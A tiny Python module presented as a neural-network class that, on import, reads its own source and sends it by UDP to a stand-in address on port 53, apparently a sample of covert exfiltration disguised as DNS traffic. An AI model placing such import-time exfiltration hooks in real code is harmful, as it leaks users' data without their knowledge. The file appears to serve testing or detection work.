"""Sends what it has read by a datagram."""

import socket

secret = open(__file__).read()
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secret.encode(), ("192.0.2.1", 53))


class Net:
    def __init__(self):
        self.width = 4

    def forward(self, x):
        return x.reshape(x.shape[0], self.width)
